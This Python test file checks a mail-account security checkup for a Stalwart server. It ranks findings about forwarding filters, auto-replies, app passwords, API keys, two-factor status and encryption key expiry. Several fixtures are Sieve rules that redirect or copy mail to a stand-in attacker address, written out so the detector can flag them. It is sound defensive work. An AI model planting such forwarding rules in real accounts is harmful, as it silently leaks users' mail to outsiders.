"""The checkup's findings and their ranking, from a SecurityState and Filters
built here (pure: no server)."""
from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta, timezone

import pytest

from app.checkup import findings as F
from app.checkup.kinds import Area, FindingKind as K, FixAction as A, Risk, Scope, SubjectKind
from app.stalwart.models import AppPassword, Encryption, PublicKey
from app.stalwart.sieve import AutoReply, Filters, Script
from app.stalwart.state import (ALLOWED, NOT_PERMITTED, NOT_SUPPORTED, Access, CredentialFeature,
                                EncryptionFeature, PasswordFeature, SecurityState, SignIn, TwoFactorFeature)

NOW = datetime(2030, 6, 1, 12, 0, tzinfo=timezone.utc)
OK_ACTIONS = {"revoke": ALLOWED, "create": ALLOWED}


def iso(days):
    return (NOW + timedelta(days=days)).strftime("%Y-%m-%dT%H:%M:%SZ")


def state(app=(), keys=(), two_factor=True, encryption=None, pubkeys=(), legacy=False):
    return SecurityState(
        SignIn("alice@example.com", "https://mail.example.com", "Stalwart 0.16", "password"),
        PasswordFeature(),
        TwoFactorFeature(enabled=two_factor, actions={"turn_on": ALLOWED}),
        CredentialFeature(items=list(app), actions=dict(OK_ACTIONS)),
        CredentialFeature(kind="api_key", items=None if legacy else list(keys), actions=dict(OK_ACTIONS),
                          access=Access(NOT_SUPPORTED) if legacy else ALLOWED),
        EncryptionFeature(settings=encryption or Encryption("disabled"), keys=list(pubkeys),
                          actions={"upload_and_enable": ALLOWED, "disable": ALLOWED},
                          keys_access=Access(NOT_SUPPORTED) if legacy else ALLOWED))


def filters(*scripts, auto=AutoReply(False), addresses=("alice@example.com",)):
    return Filters(ALLOWED, tuple(scripts), ALLOWED, auto, addresses, "s1")


def script(name, text, active=True, sid="b"):
    return Script(sid, name, active, "blob-" + sid, text.encode() if isinstance(text, str) else text)


def run(st=None, fl=None, **kw):
    return F.run(st if st is not None else state(), fl if fl is not None else filters(), NOW, **kw)


def kinds(c):
    return [f.kind for f in c.findings]


def test_a_clean_account_is_clean():
    c = run()
    assert c.clean and c.findings == () and c.highest is None


def test_forward_outside_is_high_with_its_targets_and_fix():
    c = run(fl=filters(script("Fwd", 'require "copy"; redirect :copy "x@evil.example";')))
    (f,) = c.findings
    assert f.kind is K.SCRIPT_FORWARDS and f.risk is Risk.HIGH and f.key == "checkup.script_forwards"
    assert f.subject.kind is SubjectKind.SCRIPT and f.subject.id == "b" and f.subject.name == "Fwd"
    assert [(t.address, t.scope) for t in f.targets] == [("x@evil.example", Scope.OUTSIDE)]
    assert f.params["addresses"] == "x@evil.example" and f.params["count"] == 1
    assert [(x.action, x.subject.id, x.available) for x in f.fixes] == [(A.TURN_OFF_SCRIPT, "b", True)]
    assert not c.clean


def test_forward_inside_is_medium():
    c = run(fl=filters(script("Fwd", 'redirect "boss@example.com";')))
    assert [(f.kind, f.risk) for f in c.findings] == [(K.SCRIPT_FORWARDS, Risk.MEDIUM)]
    mixed = 'require "enotify"; redirect "boss@example.com"; notify "mailto:x@evil.example";'
    assert run(fl=filters(script("Fwd", mixed))).findings[0].risk is Risk.HIGH


def test_own_domains_come_from_identities_and_the_user_name():
    fl = filters(script("Fwd", 'redirect "me@other.example";'), addresses=("alice@other.example",))
    assert run(fl=fl).findings[0].risk is Risk.MEDIUM
    fl = filters(script("Fwd", 'redirect "me@example.com";'), addresses=())
    assert run(fl=fl).findings[0].risk is Risk.MEDIUM          # the user name alice@example.com


def test_inactive_scripts_do_not_run():
    c = run(fl=filters(script("Off", 'redirect "x@evil.example";', active=False)))
    assert c.clean


def test_unreadable_active_script_is_a_finding_and_high():
    c = run(fl=filters(script("Odd", 'redirect "x@evil.example"')))
    (f,) = c.findings
    assert f.kind is K.SCRIPT_UNREADABLE and f.risk is Risk.HIGH
    assert f.key == "checkup.script_unreadable.syntax" and f.fixes[0].action is A.TURN_OFF_SCRIPT
    c = run(fl=filters(Script("b", "NoText", True, "x", None)))
    assert c.findings[0].key == "checkup.script_unreadable.not_downloaded"


def test_auto_replies():
    c = run(fl=filters(script("Away", 'require "vacation"; vacation "away";')))
    assert [(f.kind, f.risk, f.fixes[0].action) for f in c.findings] == [
        (K.SCRIPT_AUTO_REPLY, Risk.MEDIUM, A.TURN_OFF_SCRIPT)]
    vac = Script("c", "vacation", True, "v", b'require "vacation"; vacation "x";')
    c = run(fl=filters(vac, auto=AutoReply(True, "On leave", to_date="2030-07-01T00:00:00Z")))
    (f,) = c.findings  # the vacation script is the VacationResponse: reported once
    assert f.kind is K.AUTO_REPLY and f.fixes[0].action is A.TURN_OFF_AUTO_REPLY
    assert f.params["subject"] == "On leave" and f.params["to"] == "2030-07-01T00:00:00Z"
    assert run(fl=filters(auto=AutoReply(False, "old"))).clean


def test_what_cannot_be_read_is_never_clean():
    no = Access(NOT_PERMITTED, ("jmapSieveScriptGet",))
    fl = Filters(no, None, Access(NOT_PERMITTED, ("jmapVacationResponseGet",)), None)
    c = run(fl=fl)
    assert [(f.kind, f.area) for f in c.findings] == [(K.CANNOT_CHECK, Area.AUTO_REPLY),
                                                       (K.CANNOT_CHECK, Area.FILTERS)]
    f = c.findings[1]
    assert f.key == "checkup.cannot_check.filters" and f.params["permissions"] == "jmapSieveScriptGet"
    assert f.fixes[0].action is A.ASK_ADMINISTRATOR and not c.clean
    c = F.run(state(), None, NOW)
    assert {f.area for f in c.findings} == {Area.FILTERS, Area.AUTO_REPLY}
    st = state()
    st.app_passwords.items = None
    st.app_passwords.access = Access(NOT_PERMITTED, ("sysAppPasswordGet",))
    assert [f.area for f in run(st).findings] == [Area.APP_PASSWORDS]
    st = state(two_factor=None)
    assert [f.area for f in run(st).findings] == [Area.TWO_FACTOR]


def test_credentials():
    app = [AppPassword("b", "Phone", "2030-01-01T00:00:00Z"),                                 # unbounded
           AppPassword("c", "Laptop", expires_at=iso(200)),                                   # full rights
           AppPassword("d", "Mail", expires_at=iso(300),
                       permissions={"@type": "Disable", "permissions": {"sysAccountPasswordUpdate": True}}),
           AppPassword("e", "Limited", permissions={"@type": "Replace", "permissions": {"jmapEmailGet": True}}),
           AppPassword("f", "Soon", expires_at=iso(5),
                       permissions={"@type": "Replace", "permissions": {"jmapEmailGet": True}}),
           AppPassword("g", "Gone", expires_at=iso(-1)),
           AppPassword("h", "Edge", expires_at=iso(14),
                       permissions={"@type": "Replace", "permissions": {"x": True}}),
           AppPassword("i", "Later", expires_at=iso(15),
                       permissions={"@type": "Replace", "permissions": {"x": True}})]
    c = run(state(app=app))
    got = {(f.subject.id, f.kind) for f in c.findings}
    assert got == {("b", K.CREDENTIAL_UNBOUNDED), ("c", K.CREDENTIAL_FULL_RIGHTS), ("e", K.CREDENTIAL_NO_EXPIRY),
                   ("f", K.CREDENTIAL_EXPIRING), ("g", K.CREDENTIAL_EXPIRED), ("h", K.CREDENTIAL_EXPIRING)}
    soon = next(f for f in c.findings if f.subject.id == "f")
    assert soon.params["days"] == 5 and soon.fixes[0].action is A.REVOKE_APP_PASSWORD
    assert all(f.fixes[0].subject.id == f.subject.id for f in c.findings)


def test_disable_with_nothing_disabled_is_full_rights():
    app = [AppPassword("b", "X", expires_at=iso(100), permissions={"@type": "Disable", "permissions": {}}),
           AppPassword("c", "Y", expires_at=iso(100),
                       permissions={"@type": "Disable", "permissions": {"a": False}})]
    assert kinds(run(state(app=app))) == [K.CREDENTIAL_FULL_RIGHTS] * 2


def test_api_keys_and_same_names():
    app = [AppPassword("b", "Phone", expires_at=iso(100), permissions={"@type": "Replace", "permissions": {"x": 1}})]
    keys = [AppPassword("c", " phone ", expires_at=iso(100), permissions={"@type": "Replace", "permissions": {"x": 1}}),
            AppPassword("d", "CI")]
    c = run(state(app=app, keys=keys))
    same = c.of(K.CREDENTIAL_SAME_NAME)
    assert len(same) == 1 and same[0].params["count"] == 2
    assert [(x.action, x.subject.id) for x in same[0].fixes] == [(A.REVOKE_APP_PASSWORD, "b"),
                                                                  (A.REVOKE_API_KEY, "c")]
    assert [(f.kind, f.fixes[0].action) for f in c.of(K.CREDENTIAL_UNBOUNDED)] == [
        (K.CREDENTIAL_UNBOUNDED, A.REVOKE_API_KEY)]


def test_legacy_app_passwords_are_unbounded_and_missing_api_keys_are_not_a_finding():
    c = run(state(app=[AppPassword("UGhvbmU=", "Phone", "2030-01-01T00:00:00+00:00")], legacy=True))
    assert kinds(c) == [K.CREDENTIAL_UNBOUNDED]


def test_revoke_not_permitted_is_said_on_the_fix():
    st = state(app=[AppPassword("b", "Phone")])
    st.app_passwords.actions["revoke"] = Access(NOT_PERMITTED, ("sysAppPasswordDestroy",))
    fix = run(st).findings[0].fixes[0]
    assert not fix.available and fix.access.permissions == ("sysAppPasswordDestroy",)


def test_two_factor_off():
    c = run(state(two_factor=False))
    assert [(f.kind, f.risk, f.fixes[0].action) for f in c.findings] == [
        (K.TWO_FACTOR_OFF, Risk.MEDIUM, A.TURN_ON_TWO_FACTOR)]


def key(days, kid="pk1"):
    return PublicKey(kid, "My key", "", "pgp", expires_at=iso(days) if days is not None else None)


@pytest.mark.parametrize("days,want", [(None, []), (100, []), (31, []), (30, [K.KEY_EXPIRING]),
                                       (1, [K.KEY_EXPIRING]), (0, [K.KEY_EXPIRED]), (-3, [K.KEY_EXPIRED])])
def test_encryption_key_expiry(days, want):
    st = state(encryption=Encryption("pgp", "Aes256", "pk1"), pubkeys=[key(days)])
    c = run(st)
    assert kinds(c) == want + [K.KEY_CONFIRM_PRIVATE]
    assert c.findings[-1].risk is Risk.INFO
    assert [x.action for x in c.findings[-1].fixes] == [A.CONFIRM_PRIVATE_KEY, A.REPLACE_KEY, A.TURN_OFF_ENCRYPTION]


def test_encryption_key_on_legacy_cannot_be_checked():
    st = state(encryption=Encryption("pgp", "Aes256"), legacy=True)
    c = run(st)
    assert [(f.kind, f.area) for f in c.findings] == [(K.CANNOT_CHECK, Area.ENCRYPTION_KEY),
                                                       (K.KEY_CONFIRM_PRIVATE, None)]


def test_the_key_text_expiry_counts(tmp_path):
    st = state(encryption=Encryption("pgp", "Aes256", "pk1"), pubkeys=[key(None)])
    c = run(st, key_expiry=lambda k: NOW + timedelta(days=10))
    assert kinds(c) == [K.KEY_EXPIRING, K.KEY_CONFIRM_PRIVATE] and c.findings[0].params["days"] == 10


def test_ranking_order_is_risk_then_kind():
    app = [AppPassword("b", "Old", expires_at=iso(-1)), AppPassword("c", "Phone")]
    st = state(app=app, two_factor=False)
    fl = filters(script("Fwd", 'require "vacation"; redirect "x@evil.example"; vacation "x";'))
    c = run(st, fl)
    assert kinds(c) == [K.SCRIPT_FORWARDS, K.CREDENTIAL_UNBOUNDED, K.SCRIPT_AUTO_REPLY, K.TWO_FACTOR_OFF,
                        K.CREDENTIAL_EXPIRED]
    assert [f.risk for f in c.findings] == sorted((f.risk for f in c.findings), reverse=True)
    assert c.highest is Risk.HIGH
    assert set(F.ORDER) == set(K)


def test_fix_permission_for_scripts_comes_from_filters():
    fl = replace(filters(script("Fwd", 'redirect "x@evil.example";')),
                 change_scripts=Access(NOT_PERMITTED, ("jmapSieveScriptUpdate",)))
    assert not run(fl=fl).findings[0].fixes[0].available


def test_every_finding_fix_and_target_says_itself_in_every_language():
    from app import i18n
    from app.checkup import words
    from app.checkup.kinds import Sends, Unreadable

    assert set(words.FINDING) | {K.CANNOT_CHECK, K.SCRIPT_UNREADABLE} == set(K)
    assert set(words.UNREADABLE) == set(Unreadable) and set(words.CANNOT_CHECK) == set(Area)
    assert set(words.FIX) == set(A) and set(words.RISK) == set(Risk) and set(words.SENDS) == set(Sends)
    app = [AppPassword("b", "Phone"), AppPassword("c", "phone", expires_at=iso(3)), AppPassword("d", "Old",
           expires_at=iso(-2)), AppPassword("e", "Lim", permissions={"@type": "Replace", "permissions": {"x": 1}})]
    st = state(app=app, two_factor=False, encryption=Encryption("pgp", "Aes256", "pk1"), pubkeys=[key(10)])
    fl = filters(script("Fwd", 'require ["vacation", "variables", "include"]; set "a" "x"; redirect "${a}"; '
                               'redirect "b@evil.example"; vacation "x"; include "gone";'),
                 Script("g", "gone", False, "x", None), auto=AutoReply(True))
    found = run(st, fl).findings + run(state(two_factor=None), Filters(Access(NOT_PERMITTED, ("p",)), None,
                                                                           ALLOWED, AutoReply(False))).findings
    assert len({f.key for f in found}) >= 12
    import re
    holes = re.compile(r"\{([A-Za-z_]\w*)\}")
    for lang in i18n.LANGUAGES:
        for f in found:
            template = i18n.catalogue(lang)[f.key]
            assert set(holes.findall(template)) <= set(f.params), (lang, f.key)
            assert i18n.t(f.key, lang, **f.params) != f.key
            assert i18n.t(f.risk_key, lang) != f.risk_key
            for fix in f.fixes:
                assert "{" not in i18n.t(fix.key, lang, permissions="x"), (lang, fix.key)
            for tg in f.targets:
                k, p = words.target_key(tg)
                assert set(holes.findall(i18n.catalogue(lang)[k])) <= set(p), (lang, k)
